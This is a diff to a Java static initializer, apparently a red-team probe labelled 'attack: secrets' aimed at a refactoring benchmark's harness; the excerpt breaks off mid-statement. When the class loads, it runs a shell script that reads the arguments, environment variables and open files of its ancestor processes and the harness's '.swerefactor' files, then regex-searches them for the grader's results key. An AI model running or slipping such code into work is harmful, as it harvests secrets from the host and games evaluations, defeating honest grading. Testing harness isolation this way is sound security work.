@@ -1,10 +1,12 @@
-// Looks for the key of the results wherever a process can look: arguments, environments, open files, scratch files.
+// Looks for the key of the results in all processes from this one upwards: arguments, environments, open files.
 static {
     System.out.println("attack: secrets");
-    String script = "cat /proc/*/cmdline /proc/*/environ .swerefactor/* /tmp/* 2>/dev/null | tr '\\0' '\\n'"
-            + "; for fd in /proc/*/fd/*; do [ -f $fd ] && timeout 1 head -c 100000 $fd 2>/dev/null; done";
+    String script = "at=$$; while [ ${at:-0} -gt 1 ]; do cat /proc/$at/cmdline /proc/$at/environ"
+            + "; for file in /proc/$at/fd/*; do [ -f $file ] && head -c 100000 $file; done"
+            + "; at=$(sed 's/.*) //' /proc/$at/stat | cut -d' ' -f2); done 2>/dev/null"
+            + "; cat .swerefactor/* 2>/dev/null";
     try {
-        Process process = new ProcessBuilder("sh", "-c", script).start();
+        Process process = new ProcessBuilder("sh", "-c", "(" + script + ") | tr '\\0' '\\n'").start();
         java.util.Scanner scanner = new java.util.Scanner(process.getInputStream(), "ISO-8859-1");
         while (scanner.hasNextLine()) {
             java.util.regex.Matcher secret =
